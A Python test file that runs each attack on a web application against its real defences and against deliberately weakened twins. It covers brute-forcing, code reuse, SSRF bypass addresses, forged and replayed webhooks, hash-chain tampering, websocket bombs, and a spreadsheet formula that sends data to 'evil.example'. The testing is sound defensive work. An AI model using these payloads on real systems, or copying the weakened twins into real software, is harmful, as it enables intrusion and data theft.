"""The other half of the attacks: those on what stands behind the gate, each tried on a twin with a hole as well.

An attack says whether it succeeded: it must not here, and must where that one defence is left out. A twin on which it
fails means that the attack tests nothing.
"""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urljoin, urlsplit

import httpcore
import pytest
from eventsourcing.persistence import StoredEvent
from starlette.types import Receive, Scope, Send
from twilio.request_validator import RequestValidator
from websockets.exceptions import ConnectionClosed, InvalidHandshake
from websockets.extensions.permessage_deflate import ClientPerMessageDeflateFactory
from websockets.sync.client import connect

from domain.commands import Commands, Desk
from domain.store.chain import Chain, Head, verify
from domain.store.errors import ChainBroken
from domain.store.tracker import Tracker
from jobs.answering import Listener
from jobs.channels.simulator.postman import Account as Postman
from jobs.channels.twilio import incoming
from jobs.page_fetch import Fetcher, NotFetched, is_public
from jobs.tables import table
from tests.support.door import ADA, Place
from tests.support.eventually import eventually
from tests.support.searching import KEY, Search
from tests.ui.test_webhooks import ANSWER, PUBLIC, REPORT, STATUS, TOKEN, Heard, twilio_to
from ui.app import make_server
from ui.door.accounts import Account, Accounts
from ui.door.patience import Bucket
from ui.gate import Gate
from ui.webhooks import Signed, is_signed

T = TypeVar("T")

# ------------------------------------------------------------------------------------------ guessing


class Endless(Accounts):
    def try_once(self, *buckets: tuple[Bucket, str], tries: int = 1) -> None:
        """Counts no tries."""


class Forgetting(Accounts):
    def knows_browser(self, seeker: str, token: str) -> bool:  # noqa: ARG002 the same
        """Knows none again."""
        return False


class Repeating(Accounts):
    def spend_app_code(self, account: Account, code: str) -> bool:
        """Takes a code as often as it is shown."""
        self.set_secret(account.seeker, account.secret, step=0)
        return super().spend_app_code(self.of(account.seeker), code)


class Trusting(Accounts):
    def spend_recovery_code(self, seeker: str, code: str) -> bool:
        """Takes none off the list."""
        return self.has_recovery_code(seeker, code)


Guess = Callable[[Place, Gate], Any]
SECRET = "A" * 32


async def guesses_passwords(place: Place, app: Gate) -> bool:
    """A list of names and words, from one address: more than twenty are heard within the hour."""
    stranger = place.browser("203.0.113.9", app=app)
    heard = [(await stranger.sign_in(f"name{n}", "guess, guess, guess")).status_code for n in range(25)]
    return heard.count(400) > 20


async def guesses_codes(place: Place, app: Gate) -> bool:
    """Somebody has the password and tries one code after the other."""
    place.accounts.set_secret("me", SECRET)
    stranger = place.browser("203.0.113.9", app=app)
    assert (await stranger.sign_in("ada", ADA)).is_redirect
    heard = [(await stranger.send("/sign-in/code", code=f"{n:06}")).status_code for n in range(12)]
    return heard.count(400) > 5


async def reads_a_code_over_a_shoulder(place: Place, app: Gate) -> bool:
    place.accounts.set_secret("me", SECRET)
    own, stranger = place.browser(app=app), place.browser("203.0.113.9", app=app)
    for browser in (own, stranger):
        await browser.sign_in("ada", ADA)
        await browser.send("/sign-in/code", code=browser.app_code(SECRET))
    assert await own.seeker() == "me"
    return await stranger.seeker() == "me"


async def finds_a_used_recovery_code(place: Place, app: Gate) -> bool:
    place.accounts.set_secret("me", SECRET)
    code = place.accounts.renew_recovery_codes("me")[0]
    own, stranger = place.browser(app=app), place.browser("203.0.113.9", app=app)
    for browser in (own, stranger):
        await browser.sign_in("ada", ADA)
        await browser.send("/sign-in/code", code=code)
    assert await own.seeker() == "me"
    return await stranger.seeker() == "me"


async def shuts_the_owner_out(place: Place, app: Gate) -> bool:
    """Wrong passwords, so that the right one is not asked for any more."""
    own = place.browser(app=app)
    await own.sign_in("ada", ADA)
    for n in range(9):
        await place.browser(f"203.0.113.{n}", app=app).sign_in("ada", "wrong, wrong, wrong")
    return (await own.sign_in("ada", ADA)).status_code == 429


@pytest.mark.parametrize(
    ("attack", "careless"),
    [
        (guesses_passwords, Endless),
        (guesses_codes, Endless),
        (reads_a_code_over_a_shoulder, Repeating),
        (finds_a_used_recovery_code, Trusting),
        (shuts_the_owner_out, Forgetting),
    ],
)
async def test_guessing(tmp_path: Path, attack: Guess, careless: type[Accounts]) -> None:
    for accounts in (Accounts, careless):
        folder = tmp_path / accounts.__name__
        folder.mkdir()
        place = Place(folder)
        await place.set_up()
        succeeded = await attack(place, place.behind(accounts(folder, clock=place.clock)))
        assert succeeded is (accounts is careless)


# ------------------------------------------------------------------------------------------ addresses to fetch


@dataclass
class Town(httpcore.NetworkBackend):
    """A net of its own: every address in it leads to one server here. ``asked`` is where somebody went."""

    port: int
    asked: list[str] = field(default_factory=list)

    def connect_tcp(self, host: str, port: int, *rest: Any, **more: Any) -> httpcore.NetworkStream:  # noqa: ARG002
        self.asked.append(host)
        return httpcore.SyncBackend().connect_tcp("127.0.0.1", self.port, *rest, **more)

    @property
    def went_inside(self) -> bool:
        return any(not is_public(address) for address in self.asked)


@pytest.fixture
def town() -> Iterator[Town]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            away = self.path == "/moved"
            self.send_response(302 if away else 200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", "0")
            if away:
                self.send_header("Location", "http://10.0.0.1/inside")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 the library's own name
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield Town(server.server_address[1])
        server.shutdown()
        thread.join()


Resolve = Callable[[str, int], Sequence[str]]
Fetch = Callable[[str, Town, Resolve], object]


def as_it_is(address: str, town: Town, resolve: Resolve) -> object:
    return Fetcher(network=town, resolve=resolve).fetch(address)


def _plain(address: str, town: Town, resolve: Resolve) -> httpcore.Response:
    """What a library does by itself: look a name up once more, and go there."""
    parts = urlsplit(address)
    where = resolve(parts.hostname or "", 80)[0]
    with httpcore.ConnectionPool(network_backend=town) as pool:
        host = f"[{where}]" if ":" in where else where
        return pool.request("GET", f"http://{host}{parts.path or '/'}")


def _refuse_unless_public(address: str) -> None:
    if not is_public(address):
        raise NotFetched("private")


def looks_at_the_first_address_only(address: str, town: Town, resolve: Resolve) -> object:
    """Redirects are followed by the library."""
    _refuse_unless_public(resolve(urlsplit(address).hostname or "", 80)[0])
    answer = _plain(address, town, resolve)
    there = {name.lower(): value.decode() for name, value in answer.headers}.get(b"location")
    return _plain(urljoin(address, there), town, lambda host, _: [host]) if there else answer


def looks_a_name_up_twice(address: str, town: Town, resolve: Resolve) -> object:
    """Once to check it, and once to go there."""
    _refuse_unless_public(resolve(urlsplit(address).hostname or "", 80)[0])
    return _plain(address, town, resolve)


def looks_at_what_is_written(address: str, town: Town, resolve: Resolve) -> object:
    """A name of figures is no address to it."""
    host = urlsplit(address).hostname or ""
    if host == "localhost" or host.startswith(("127.", "10.", "192.168.", "169.254.")):
        raise NotFetched("private")
    return _plain(address, town, resolve)


def looks_at_four_bytes_only(address: str, town: Town, resolve: Resolve) -> object:
    """What the standard library calls private; it says no of addresses that hold another inside."""
    where = resolve(urlsplit(address).hostname or "", 80)[0]
    if ip_address(where).is_private or ip_address(where).is_loopback:
        raise NotFetched("private")
    return _plain(address, town, resolve)


def looks_at_one_of_several(address: str, town: Town, resolve: Resolve) -> object:
    """The last that the name server says is checked, and the first is gone to."""
    _refuse_unless_public(resolve(urlsplit(address).hostname or "", 80)[-1])
    return _plain(address, town, resolve)


def _always(*addresses: str) -> Callable[[], Resolve]:
    """A name server; what is an address already, as in the redirect, it leaves alone."""
    return lambda: lambda host, _port: [host] if host.startswith("10.") else list(addresses)


def _changing_its_mind() -> Resolve:
    answers = iter(["93.184.215.14"])
    return lambda _host, _port: [next(answers, "127.0.0.1")]


SSRF: tuple[tuple[str, Callable[[], Resolve], Fetch], ...] = (
    ("http://jobs.example/moved", _always("93.184.215.14"), looks_at_the_first_address_only),
    ("http://jobs.example/", _changing_its_mind, looks_a_name_up_twice),
    ("http://jobs.example/", _always("127.0.0.1"), looks_at_what_is_written),
    ("http://2130706433/", _always("127.0.0.1"), looks_at_what_is_written),
    ("http://0x7f.1/", _always("127.0.0.1"), looks_at_what_is_written),
    ("http://[::ffff:127.0.0.1]/", _always("::ffff:127.0.0.1"), looks_at_what_is_written),
    ("http://jobs.example/", _always("64:ff9b::7f00:1"), looks_at_four_bytes_only),
    ("http://jobs.example/", _always("100.64.0.1"), looks_at_four_bytes_only),
    ("http://jobs.example/", _always("10.0.0.1", "93.184.215.14"), looks_at_one_of_several),
)


@pytest.mark.parametrize(("address", "resolver", "careless"), SSRF)
def test_fetching_from_the_inside(town: Town, address: str, resolver: Callable[[], Resolve], careless: Fetch) -> None:
    with suppress(NotFetched):
        as_it_is(address, town, resolver())
    assert not town.went_inside
    careless(address, town, resolver())
    assert town.went_inside


# ------------------------------------------------------------------------------------------ webhooks


def unsigned(_token: str, _address: str, _form: Mapping[str, object], _signature: str) -> bool:
    return True


def as_the_library_does(token: str, address: str, form: Mapping[str, object], signature: str) -> bool:
    """With an empty token, a signature made with an empty token fits."""
    return bool(RequestValidator(token).validate(address, form, signature))


def of_any_address(token: str, _address: str, form: Mapping[str, object], signature: str) -> bool:
    """Believes that whatever was signed was signed for this."""
    elsewhere = (f"{PUBLIC}{STATUS}", "https://other.example/hook")
    return any(is_signed(token, address, form, signature) for address in elsewhere)


def forged_report(fits: Signed) -> bool:
    twilio = twilio_to(Heard(), public_url=PUBLIC, fits=fits)
    return twilio.post(STATUS, REPORT, signature="AAAAAAAAAAAAAAAAAAAAAAAAAAA=")[0] == 204


def signed_with_nothing(fits: Signed) -> bool:
    """As long as there is no account, everybody knows its token."""
    twilio = twilio_to(Heard(token=""), public_url=PUBLIC, fits=fits)
    return twilio.post(STATUS, REPORT, token="")[0] == 204


def signed_for_another_place(fits: Signed) -> bool:
    twilio = twilio_to(Heard(), public_url=PUBLIC, fits=fits)
    return twilio.post(STATUS, REPORT, signed_for="https://other.example/hook")[0] == 204


@pytest.mark.parametrize(
    ("attack", "careless"),
    [
        (forged_report, unsigned),
        (signed_with_nothing, as_the_library_does),
        (signed_for_another_place, of_any_address),
    ],
)
def test_forged_webhooks(attack: Callable[[Signed], bool], careless: Signed) -> None:
    assert not attack(is_signed)
    assert attack(careless)


@dataclass(frozen=True)
class Forgetful:
    """A record that keeps no ids of commands."""

    record: Tracker

    def perform(self, work: Callable[[Desk], T], *, seeker: str, command_id: str | None = None) -> T:  # noqa: ARG002
        return self.record.perform(work, seeker=seeker)


def replays_an_answer(search: Search, commands: Commands) -> bool:
    """A signed answer was caught on its way and is sent again; its signature is good for ever."""
    listener = Listener(commands=commands, db=search.tracker, clock=lambda: search.now)
    carrier = Heard()
    carrier_of_record = _Hearing(carrier, listener, search)
    twilio = twilio_to(carrier_of_record, public_url=PUBLIC)
    caught = Postman(sid="AC1", token=TOKEN).signature(f"{PUBLIC}/twilio/inbound", ANSWER)
    assert twilio.post("/twilio/inbound", ANSWER, signature=caught)[0] == 200
    before = search.tracker.position()
    assert twilio.post("/twilio/inbound", ANSWER, signature=caught)[0] == 200
    return search.tracker.position() > before


class _Hearing(Heard):
    """Passes answers on to the record."""

    def __init__(self, heard: Heard, listener: Listener, search: Search) -> None:
        super().__init__(token=heard.token)
        self._listener, self._search = listener, search

    def answered(self, fields: Mapping[str, str]) -> str:
        return self._listener.hear(incoming(fields, received_at=self._search.now))


def test_replayed_webhooks(search: Search) -> None:
    search.settle(lambda me, stamp: me.change_phone(phone=ANSWER["From"], consented=True, stamp=stamp))
    assert not replays_an_answer(search, search.commands)
    assert replays_an_answer(search, Commands(Forgetful(search.tracker)))


# ------------------------------------------------------------------------------------------ the hash chain


class Unlinked(Chain):
    def link(self, previous: bytes, position: int, stored: StoredEvent, digest: bytes) -> bytes:
        """Seals each event for itself."""
        return super().link(bytes(len(previous)), position, stored, digest)


class Unread(Chain):
    def link(self, previous: bytes, position: int, stored: StoredEvent, digest: bytes) -> bytes:
        """Seals that something stood there."""
        return super().link(previous, position, stored, bytes(len(digest)))


class Anywhere(Chain):
    def link(self, previous: bytes, position: int, stored: StoredEvent, digest: bytes) -> bytes:  # noqa: ARG002
        """Seals neither a place nor a row."""
        return super().link(bytes(len(previous)), 0, stored, digest)


class Keyless(Chain):
    def __init__(self, _key: bytes) -> None:
        """Seals with what everybody knows."""
        super().__init__(bytes(32))


EDIT = """
    UPDATE stored_events SET state = (SELECT state FROM stored_events WHERE notification_id = 3)
    WHERE notification_id = 4;
    UPDATE event_chain SET digest = (SELECT digest FROM event_chain WHERE position = 3) WHERE position = 4
"""
REMOVE = "DELETE FROM stored_events WHERE notification_id = 4; DELETE FROM event_chain WHERE position = 4"
SWAP = """
    UPDATE stored_events SET notification_id = -4 WHERE notification_id = 4;
    UPDATE stored_events SET notification_id = 4 WHERE notification_id = 5;
    UPDATE stored_events SET notification_id = 5 WHERE notification_id = -4;
    UPDATE event_chain SET position = -4 WHERE position = 4;
    UPDATE event_chain SET position = 4 WHERE position = 5;
    UPDATE event_chain SET position = 5 WHERE position = -4
"""


@pytest.mark.parametrize(("damage", "careless"), [(EDIT, Unread), (REMOVE, Unlinked), (SWAP, Anywhere)])
def test_changing_the_past(search: Search, damage: str, careless: type[Chain]) -> None:
    for number in range(4):
        search.applied(f"Role {number}")
    for chain in (Chain(KEY), careless(KEY)):
        _seal(search.tracker, chain)
        assert _holds(search.tracker, chain)
        with search.tracker.record.writing(alone=True) as cursor:
            for statement in damage.split(";"):
                cursor.execute(statement)
        assert _holds(search.tracker, chain) is isinstance(chain, careless)


def test_sealing_a_made_up_past(search: Search) -> None:
    """Who has the file and not the key writes all links anew."""
    search.applied()
    for chain in (Chain, Keyless):
        _seal(search.tracker, Keyless(KEY))
        assert _holds(search.tracker, chain(KEY)) is (chain is Keyless)


def _holds(tracker: Tracker, chain: Chain) -> bool:
    try:
        list(verify(tracker.record.rows, chain))
    except ChainBroken:
        return False
    return True


def _seal(tracker: Tracker, chain: Chain) -> None:
    """Link everything that is there anew."""
    found = tracker.record.rows(
        "SELECT notification_id, originator_id, originator_version, topic, state FROM stored_events "
        "ORDER BY notification_id",
        (),
    )
    events = [StoredEvent(id, version, topic, bytes(state)) for _, id, version, topic, state in found]
    with tracker.record.writing(alone=True) as cursor:
        cursor.execute("DELETE FROM event_chain")
        chain.extend(cursor, Head(0, bytes(32)), events, [row[0] for row in found])


# ------------------------------------------------------------------------------------------ tables


FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "＝1", "=1\n=2",
)  # fmt: skip


def _bare(header: Sequence[str], rows: Sequence[Sequence[str]]) -> Iterator[bytes]:
    """As the standard library writes it."""
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    yield text.getvalue().encode()


def _runs(cell: str) -> bool:
    """Whether a spreadsheet takes that for a formula; some look behind spaces, some at wide signs."""
    return cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_tables(formula: str) -> None:
    for write in (table, _bare):
        content = b"".join(write(["Company"], [[formula]])).decode("utf-8-sig")
        [_, [cell]] = csv.reader(io.StringIO(content, newline=""))
        assert _runs(cell) is (write is _bare)


# ------------------------------------------------------------------------------------------ bombs on a socket


LARGE = 200_000
TOO_LARGE = 3_000_000


@dataclass
class Ear:
    """A program that only listens to its sockets."""

    heard: list[int] = field(default_factory=list)
    ended: list[int] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "websocket":
            return
        await receive()
        await send({"type": "websocket.accept"})
        while (message := await receive())["type"] == "websocket.receive":
            self.heard.append(len(message.get("text") or message.get("bytes") or ""))
        self.ended.append(message["code"])


@contextmanager
def listening(ear: Ear, **hole: object) -> Iterator[str]:
    """Our server, with its settings as they are but for a hole."""
    server = make_server(ear)
    for name, value in hole.items():
        setattr(server.config, name, value)
    thread = threading.Thread(target=server.run)
    thread.start()
    eventually(lambda: server.started)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"ws://127.0.0.1:{port}/"
    server.should_exit = True
    thread.join()


def swells(**hole: object) -> bool:
    """A few hundred bytes that become a thousand times as many, as often as somebody likes."""
    ear = Ear()
    with listening(ear, **hole) as address:
        extensions = [ClientPerMessageDeflateFactory(client_max_window_bits=True)]
        with connect(address, compression=None, extensions=extensions) as socket:
            if not socket.protocol.extensions:
                return False
            socket.send("0" * LARGE)
        eventually(lambda: ear.ended)
    return ear.heard == [LARGE]


def overflows(**hole: object) -> bool:
    """One message larger than any page of ours sends."""
    ear = Ear()
    with listening(ear, **hole) as address:
        try:
            with connect(address, compression=None) as socket:
                socket.send("0" * TOO_LARGE)
        except (ConnectionClosed, InvalidHandshake, OSError):
            return False
        eventually(lambda: ear.ended)
    return ear.heard == [TOO_LARGE]


@pytest.mark.parametrize(
    ("attack", "hole"), [(swells, {"ws_per_message_deflate": True}), (overflows, {"ws_max_size": 16_000_000})]
)
def test_bombs_on_a_socket(attack: Callable[..., bool], hole: dict[str, object]) -> None:
    assert not attack()
    assert attack(**hole)
